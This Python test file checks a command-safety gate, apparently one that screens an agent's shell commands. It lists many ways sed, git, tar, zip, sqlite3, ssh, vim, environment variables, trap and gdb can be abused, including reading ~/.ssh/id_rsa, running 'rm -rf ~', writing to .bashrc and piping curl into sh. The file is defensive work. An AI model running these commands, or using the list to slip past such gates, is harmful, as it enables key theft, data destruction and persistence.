"""Programs whose options, settings or script text run a command, read a file or write one.

Each of these was judged safe and ran unattended: ``sed '1e cat ~/.ssh/id_rsa'``, ``git -c core.pager=…``,
``tar --to-command=…``, ``sqlite3 db '.shell …'``, ``ssh -o ProxyCommand=…``, ``LESSOPEN='|…' less``… Now the
command such an option gives is judged as a command and asks first, a file it reads is checked as a path and a
file it writes is judged as a redirection to it is.
"""

from __future__ import annotations

import os
import subprocess
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

from contop.security import cmdbase, commands
from contop.security.decision import GateContext
from contop.security.gate import classify_command
from contop.security.state import State
from tests.security.corpus_support import posix_context

RUNS_GIT_SETTING = "runs a command given in git's settings"
SETS_VARIABLE = "sets a variable that makes the program run other code"
PROTECTED = "touches a protected location"
LOGIN_FILE = "changes what runs automatically at login or boot"
MEMORY = "reads another running program's memory"


def judged(command: str, ctx: GateContext | None = None) -> tuple[str, str]:
    decision = classify_command(command, ctx or posix_context())
    return decision.verdict, decision.reason


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        # sed: the e command and s///e run a command; r/R read a file; w/W and s///w write one
        ("sed -n '1e cat ~/.ssh/id_rsa' /etc/hostname", PROTECTED),
        ("sed -n '1e id' notes.txt", "runs a shell command from a sed script"),
        ("sed -n 's/x/cat notes/e' notes.txt", "runs a shell command from a sed script"),
        ("sed -ne '1e id' notes.txt", "runs a shell command from a sed script"),
        ("sed --exp='1e id' notes.txt", "runs a shell command from a sed script"),
        ("sed -f - notes.txt <<< '1e id'", "runs a shell command from a sed script"),
        ("sed \"$(printf '1e id')\" notes.txt", "runs a shell command from a sed script"),
        ("sed -n '1e rm -rf ~' notes.txt", "destroys your home directory"),
        ("sed -n '1r /home/u/.contop/admin.token' notes.txt", PROTECTED),
        ("sed -n '1R /home/u/.contop/admin.token' notes.txt", PROTECTED),
        ("sed -n '1w /home/u/.bashrc' notes.txt", LOGIN_FILE),
        ("sed -n '1W /home/u/.profile' notes.txt", LOGIN_FILE),
        ("sed 's/a/b/w /home/u/.bashrc' notes.txt", LOGIN_FILE),
        ("sed 's/[/]/x/w /home/u/.bashrc' notes.txt", LOGIN_FILE),  # a delimiter inside a bracket expression
        ("sed -n '/x/{w /home/u/.bashrc\n}' notes.txt", LOGIN_FILE),
        ("echo '1e cat ~/.ssh/id_rsa' > /tmp/s.sed; sed -n -f /tmp/s.sed notes.txt", PROTECTED),
        # git: a setting whose value is a command, given for one run or kept
        ("git -c alias.x='!cat ~/.ssh/id_rsa' x", PROTECTED),
        ("git -c alias.x='!id' x", RUNS_GIT_SETTING),
        ("git -c core.pager='sh -c id' log", RUNS_GIT_SETTING),
        ("git -c core.sshCommand='sh -c id' fetch", RUNS_GIT_SETTING),
        ("git -c core.fsmonitor='touch /tmp/p' status", RUNS_GIT_SETTING),
        ("git -c core.editor='sh -c id' commit", RUNS_GIT_SETTING),
        ("git -c credential.helper='!id' fetch", RUNS_GIT_SETTING),
        ("git -c core.hooksPath=/tmp/hooks commit -m x", RUNS_GIT_SETTING),
        ("git -c diff.x.textconv='sh -c id' diff", RUNS_GIT_SETTING),
        ("git -c include.path=/tmp/evil.cfg log", RUNS_GIT_SETTING),
        ("git -c protocol.ext.allow=always clone 'ext::sh -c id' x", RUNS_GIT_SETTING),
        ("git --config-env=core.pager=EVIL log", RUNS_GIT_SETTING),
        ("git clone -c core.fsmonitor='sh -c id' /tmp/repo x", RUNS_GIT_SETTING),
        ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='sh -c id' git log", RUNS_GIT_SETTING),
        ("git config --global core.fsmonitor 'touch /tmp/p'", "changes which programs git runs"),
        ("git config core.pager 'sh -c id'", "changes which programs git runs"),
        ("git config --local core.sshCommand 'sh -c id'", "changes which programs git runs"),
        ("git config core.hooksPath /tmp/hooks", "changes which programs git runs"),
        ("git config alias.x '!sh -c id'", "changes which programs git runs"),
        ("git config set core.pager 'sh -c id'", "changes which programs git runs"),
        ("git --exec-path=/tmp/evil status", "runs git's own programs from another folder"),
        ("git clone --upload-pack='sh -c id' /tmp/repo x", "runs a command given in git's options"),
        ("git rebase --exec 'cat ~/.ssh/id_rsa' HEAD~1", PROTECTED),
        ("git submodule foreach 'rm -rf ~'", "destroys your home directory"),
        # tar and zip
        ("tar xf a.tar --to-command='sh -c id'", "runs a command given in tar's options"),
        ("tar xf a.tar --to-com='sh -c id'", "runs a command given in tar's options"),
        ("tar cf a.tar --checkpoint=1 --checkpoint-action=exec='sh -c id' f", "runs a command given in tar's options"),
        ("tar --use-compress-program='sh -c id' -cf a.tar f", "runs a command given in tar's options"),
        ("tar -I 'sh -c id' -cf a.tar f", "runs a command given in tar's options"),
        ("tar cfI a.tar 'sh -c id' f", "runs a command given in tar's options"),
        ("tar -cf a.tar -F 'sh -c id' f", "runs a command given in tar's options"),
        ("tar --info-script=x.sh -cMf a.tar f", "runs a command given in tar's options"),
        ("tar --new-volume-script=x.sh -cMf a.tar f", "runs a command given in tar's options"),
        ("tar --to-command='rm -rf ~' -xf a.tar", "destroys your home directory"),
        ("tar --remove-files -cf a.tar dir", "deletes files"),
        ("tar -cf a.tar --remove-files ~", "destroys your home directory"),
        ("zip x.zip f -T -TT 'sh -c id'", "runs a command given in zip's options"),
        ("zip --unzip-command 'sh -c id' -T x.zip f", "runs a command given in zip's options"),
        ("zip -m x.zip f", "deletes files"),
        ("zip -rm x.zip ~", "destroys your home directory"),
        # sqlite3: dot-commands in an argument, -cmd or the input
        ("sqlite3 db '.shell cat ~/.ssh/id_rsa'", PROTECTED),
        ("sqlite3 db '.system id'", "runs a shell command from sqlite3"),
        ("sqlite3 db '.sh id'", "runs a shell command from sqlite3"),
        ("sqlite3 -cmd '.shell id' db", "runs a shell command from sqlite3"),
        ("sqlite3 db <<< '.shell id'", "runs a shell command from sqlite3"),
        ("sqlite3 db <<SQL\nselect 1;\n.shell id\nSQL", "runs a shell command from sqlite3"),
        ("sqlite3 db '.output |sh -c id' 'select 1'", "runs a shell command from sqlite3"),
        ("sqlite3 db '.output /home/u/.bashrc' 'select 1'", LOGIN_FILE),
        ("sqlite3 db '.once /home/u/.bashrc'", LOGIN_FILE),
        ("sqlite3 db '.read /home/u/.contop/admin.token'", PROTECTED),
        ("sqlite3 db '.import /home/u/.contop/admin.token t'", PROTECTED),
        ("sqlite3 db \"select writefile('/home/u/.bashrc', 'x')\"", LOGIN_FILE),
        ("sqlite3 db \"select readfile('/home/u/.ssh/id_rsa')\"", PROTECTED),
        ("sqlite3 db \"select edit('x', 'sh -c id')\"", "runs an editor or another program from sqlite3"),
        ("sqlite3 db '.load /tmp/x.so'", "loads a library into sqlite3"),
        ("psql -c '\\! id'", "runs a shell command from the database client"),
        # ssh, scp, sftp, rsync
        ("ssh -o ProxyCommand='sh -c id' host", "runs a command given in ssh's options"),
        ("ssh -oProxyCommand='sh -c id' host", "runs a command given in ssh's options"),
        ("ssh -vo ProxyCommand='sh -c id' host", "runs a command given in ssh's options"),
        ("ssh -o 'ProxyCommand sh -c id' host", "runs a command given in ssh's options"),
        ("ssh -o LocalCommand=id -o PermitLocalCommand=yes host", "runs a command given in ssh's options"),
        ("ssh -o PermitLocalCommand=yes host", "runs a command given in ssh's options"),
        ("ssh -o KnownHostsCommand=id host", "runs a command given in ssh's options"),
        ("ssh -o ProxyCommand='cat ~/.ssh/id_rsa' host", PROTECTED),
        ("ssh -o PKCS11Provider=/tmp/x.so host", "loads a library given in ssh's options"),
        ("ssh -E /home/u/.bashrc host", LOGIN_FILE),
        ("scp -o ProxyCommand='sh -c id' a host:b", "runs a command given in scp's options"),
        ("sftp -o ProxyCommand='sh -c id' host", "runs a command given in sftp's options"),
        ("scp -S /tmp/evil a host:b", "runs a command given in scp's options"),
        ("rsync -e 'sh -c id' host:a b", "runs a command given in rsync's options"),
        ("rsync --rsh='sh -c id' host:a b", "runs a command given in rsync's options"),
        ("rsync -e 'ssh -o ProxyCommand=id' host:a b", "runs a command given in ssh's options"),
        # variables set on the line that make a program run other code
        ("LESSOPEN='|cat ~/.ssh/id_rsa %s' less notes.txt", SETS_VARIABLE),
        ("LESSCLOSE='id %s %s' less notes.txt", SETS_VARIABLE),
        ("PAGER='sh -c id' git log", SETS_VARIABLE),
        ("PAGER='sh -c id' git --help", SETS_VARIABLE),
        ("env PAGER='sh -c id' git log", SETS_VARIABLE),
        ("env -i GIT_PAGER='sh -c id' git log", SETS_VARIABLE),
        ("sudo EDITOR='sh -c id' visudo", SETS_VARIABLE),
        ("export PAGER='sh -c id'; git log", SETS_VARIABLE),
        ("PAGER='sh -c id'; git log", SETS_VARIABLE),
        ("BASH_ENV=/tmp/x bash -c true", SETS_VARIABLE),
        ("ENV=/tmp/x sh -i", SETS_VARIABLE),
        ("GIT_SSH_COMMAND='sh -c id' git fetch", SETS_VARIABLE),
        ("GIT_SSH=/tmp/evil git fetch", SETS_VARIABLE),
        ("PROMPT_COMMAND=id bash -i", SETS_VARIABLE),
        ("LD_PRELOAD=/tmp/x.so ls", "injects a library into programs"),
        ("env LD_PRELOAD=/tmp/x.so ls", SETS_VARIABLE),
        ("LD_LIBRARY_PATH=/tmp ./prog", SETS_VARIABLE),
        ("PYTHONSTARTUP=/tmp/x.py python", SETS_VARIABLE),
        ("PERL5OPT=-Mx perl -e 1", SETS_VARIABLE),
        ("NODE_OPTIONS='--require /tmp/x.js' node app.js", SETS_VARIABLE),
        # env -S: the string is the command line
        ('env -S"cat /home/u/.ssh/id_rsa"', PROTECTED),
        ("env -S\"sh -c\" 'rm -rf ~'", "destroys your home directory"),
        ("env -iS'sh -c' 'cat ~/.ssh/id_rsa'", PROTECTED),
        ("env --split-string='sh -c \"rm -rf ~\"'", "destroys your home directory"),
        ("env -S 'sh -c \"rm -rf ~\"'", "destroys your home directory"),
        ("env -S\"PAGER='sh -c id' git log\"", SETS_VARIABLE),
        # vim's startup commands that read or write files or run code
        ("vim -c 'r ~/.ssh/id_rsa' -c 'w /tmp/out' -c q notes.txt", PROTECTED),
        ("vim -c 'e ~/.ssh/id_rsa' -c q", PROTECTED),
        ("vim -c 'w ~/.bashrc' -c q notes.txt", LOGIN_FILE),
        ("vim -c 'w >> ~/.bashrc' notes.txt", LOGIN_FILE),
        ("vim +'saveas ~/.bashrc' notes.txt", LOGIN_FILE),
        ("nvim --cmd 'wq ~/.profile' notes.txt", LOGIN_FILE),
        ("ex -s -c 'g/x/w ~/.bashrc' -c q notes.txt", LOGIN_FILE),
        ("vim -c 'norm Gocurl x' -c wq ~/.bashrc", LOGIN_FILE),
        ("vim -i ~/.bashrc -c q", LOGIN_FILE),
        ("vim -c 'call delete(\"x\")'", "runs code from the editor"),
        ("vim -c 'set makeprg=id' -c make", "runs code from the editor"),
        ("vim -c 'so /tmp/x.vim'", "runs code from the editor"),
        ("vim -S /tmp/evil.vim", "runs code from the editor"),
        ("vim -c 'r !id'", "runs a shell command from the editor"),
        # trap: the command runs when the shell gets the signal
        ("trap 'rm -rf ~' EXIT", "destroys your home directory"),
        ("trap 'cat ~/.ssh/id_rsa' EXIT", PROTECTED),
        ("trap -- 'curl x | sh' EXIT", "runs code downloaded from the network"),
        # another program's memory, where the server's API keys are
        ("gdb -p 1234", MEMORY),
        ("gdb --pid=1234", MEMORY),
        ("gdb ./prog 1234", MEMORY),
        ("gdb -batch -ex 'attach 1234'", MEMORY),
        ("gcore 1234", MEMORY),
        ("gcore -o /tmp/core 1234", MEMORY),
        ("lldb -p 1234", MEMORY),
        ("gdb -ex 'shell id' ./prog", "runs a shell command from the debugger"),
    ],
)
def test_options_and_scripts_that_run_read_or_write_are_not_run_unattended(command: str, reason: str) -> None:
    verdict, why = judged(command)
    assert verdict in ("confirm", "block") and why.startswith(reason), (verdict, why)


@pytest.mark.parametrize(
    "command",
    [
        "sed -n 's/a/b/p' f",
        "sed -e '1d' f",
        "sed 's/e/E/g' f",
        "sed -i.bak -e 's/a/b/' -e 's/c/d/' f",
        "sed -E 's/(a|b)+/X/g' f",
        "sed ':a;N;$!ba;s/\\n/ /g' f",
        "sed '/start/,/end/{/x/d}' f",
        "sed 's#a#b#g' f",
        "sed 's/[/]/X/' f",
        "sed '1i\\header' f",
        "sed '$a footer' f",
        "sed '/^$/N;/\\n$/D' f",
        "sed -n '0,/x/s//y/p' f",
        "sed '1~3d' f",
        "sed 's/.*/\\U&/' f",
        "sed 'y/abc/xyz/' f",
        "sed -n '/re/Ip;$=' f",
        "sed -n '/x/w out.txt' f",
        "sed '1r header.txt' f",
        "sed --sandbox '1e id' f",  # --sandbox refuses e, r and w
        "sed $(cat script.sed) notes.txt",
        "git -c user.name=x commit -m m",
        "git -c core.pager=cat log",
        "git -c core.pager='less -FRX' log",
        "git -c pager.log=false log",
        "git -c core.fsmonitor=false status",
        "git -c credential.helper=store push",
        "git -c core.hooksPath=/dev/null commit -m x",
        "git -c protocol.file.allow=always submodule update",
        "git config user.email a@b",
        "git config --global alias.co checkout",
        "git config --global core.editor vim",
        "git config --get core.sshCommand",
        "git rebase -x 'make test' main",
        "git bisect run pytest",
        "GIT_PAGER=cat git log",
        "PAGER= git log",
        "EDITOR=vim git commit",
        "GIT_SSH_COMMAND='ssh -p 2222' git fetch",
        "NODE_ENV=production npm start",
        "ENV=production ./run.sh",
        "EDITOR='code --wait' git commit",
        "GIT_EDITOR=true git rebase --continue",
        "export EDITOR=nano",
        "tar xzf a.tgz",
        "tar czf x.tgz dir",
        "tar -I zstd -cf x.tar.zst dir",
        "tar --use-compress-program='zstd -19' -cf x.tar.zst dir",
        "tar --checkpoint=1000 --checkpoint-action=dot -cf x.tar dir",
        "zip -r x.zip dir",
        "zip -T x.zip f",
        "sqlite3 db 'select 1'",
        "sqlite3 db .tables",
        "sqlite3 db '.mode csv' 'select * from t'",
        "sqlite3 db '.output out.csv' 'select 1'",
        "sqlite3 -safe db '.shell id'",  # -safe refuses it
        'sqlite3 db "select credit(x) from t"',
        "ssh host ls",
        "ssh -o StrictHostKeyChecking=no host",
        "ssh -o ProxyCommand=none host",
        "ssh -o ProxyJump=bastion host",
        "ssh -F /dev/null host",
        "rsync -av a/ b/",
        "rsync -e ssh host:a b",
        "rsync -e 'ssh -p 2222' host:a b",
        "scp -P 2222 host:a b",
        "less file",
        "less -R file",
        "vim file",
        "vim +10 file",
        "vim -c 'set ff=unix' -c wq f",
        "vim -es -c '%s/a/b/g' -c wq f",
        "ex -s -c '%s/x/y/g' -c x f",
        "trap '' TERM",
        "trap 'echo done' EXIT",
        "gdb ./prog",
        "gdb --args ./prog 1234",
        "strace ls",
        "env -S 'echo hi'",
        "psql -c 'select 1'",
        "ls -S",
    ],
)
def test_harmless_look_alikes_stay_safe(command: str) -> None:
    assert judged(command)[0] == "safe", judged(command)


def test_sending_a_file_with_rsync_over_plain_ssh_is_asked_about_for_that_alone() -> None:
    assert judged("rsync -e ssh a host:b") == (
        "confirm",
        "sends a file from this computer to another one (rsync -e ssh a host:b)",
    )


def test_a_script_file_is_judged_by_what_it_says(tmp_path: Path) -> None:
    ctx = replace(posix_context(), cwd=str(tmp_path))
    (tmp_path / "tidy.sed").write_text("s/a/b/\n/^$/d\n", encoding="utf-8")
    (tmp_path / "steal.sed").write_text("s/a/b/\n1e cat ~/.ssh/id_rsa\n", encoding="utf-8")
    (tmp_path / "plain.sql").write_text("select 1;\n", encoding="utf-8")
    (tmp_path / "shell.sql").write_text("select 1;\n.shell id\n", encoding="utf-8")
    (tmp_path / "plain_config").write_text("Host *\n  User me\n", encoding="utf-8")
    (tmp_path / "proxy_config").write_text("Host *\n  ProxyCommand sh -c id\n", encoding="utf-8")
    assert judged("sed -f tidy.sed notes.txt", ctx)[0] == "safe"
    assert judged("sed -f steal.sed notes.txt", ctx)[1].startswith(PROTECTED)
    assert judged("sqlite3 db '.read plain.sql'", ctx)[0] == "safe"
    assert judged("sqlite3 db '.read shell.sql'", ctx)[1].startswith("runs a shell command from sqlite3")
    assert judged("ssh -F plain_config host", ctx)[0] == "safe"
    assert judged("ssh -F proxy_config host", ctx)[1].startswith("runs a command given in ssh's options")


@pytest.mark.parametrize(
    ("name", "args"),
    [("strace", ["-p", "1234"]), ("strace", ["-fp", "1234"]), ("ltrace", ["-p", "1234"])],
)
def test_attaching_a_tracer_to_another_program_asks_first(name: str, args: list[str]) -> None:
    text = " ".join([name, *args])
    st = State.start(posix_context(), text)
    commands.judge(cmdbase.Invocation(name, args, text), st)
    assert st.found.verdict == "confirm" and st.found.reason.startswith(MEMORY)


@pytest.mark.parametrize("command", ["strace -p 1234", "ltrace -p 1234"])
def test_a_tracer_on_the_command_line_attaching_to_another_program_asks_first(command: str) -> None:
    assert judged(command)[1].startswith(MEMORY)


def test_dot_commands_piped_into_sqlite_are_judged() -> None:
    assert judged("echo '.shell id' | sqlite3 db")[1].startswith("runs a shell command from sqlite3")


def _run(command: str, cwd: Path) -> None:
    env = {"PATH": os.environ["PATH"], "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1", "LC_ALL": "C"}
    subprocess.run(["/bin/sh", "-c", command], cwd=cwd, env=env, capture_output=True, timeout=30, check=False)


@pytest.mark.parametrize(
    "command",
    [
        "sed -n '1e touch ran' notes.txt",
        "sed -n 's/.*/touch ran/ep' notes.txt",
        "tar xf a.tar --to-command='touch ran'",
        "tar cf b.tar --checkpoint=1 --checkpoint-action=exec='touch ran' notes.txt",
        "git -c alias.x='!touch ran' x",
    ],
)
def test_the_command_an_option_gives_really_runs_and_is_asked_about(tmp_path: Path, command: str) -> None:
    (tmp_path / "notes.txt").write_text("hello\n", encoding="utf-8")
    with tarfile.open(tmp_path / "a.tar", "w") as archive:
        archive.add(tmp_path / "notes.txt", arcname="notes.txt")
    _run(command, tmp_path)
    assert (tmp_path / "ran").exists(), "the program no longer runs the command its option gives"
    ctx = replace(posix_context(), cwd=str(tmp_path))
    assert judged(command, ctx)[0] == "confirm", judged(command, ctx)
